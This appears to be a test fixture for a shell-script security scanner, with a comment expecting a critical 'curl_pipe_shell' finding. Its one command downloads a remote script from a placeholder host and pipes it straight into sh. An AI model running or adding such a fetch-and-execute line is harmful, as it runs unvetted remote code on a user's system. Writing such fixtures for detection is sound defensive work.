# expect: shell.curl_pipe_shell critical
#!/bin/sh
http --body https://get.example.net/i.sh | sh
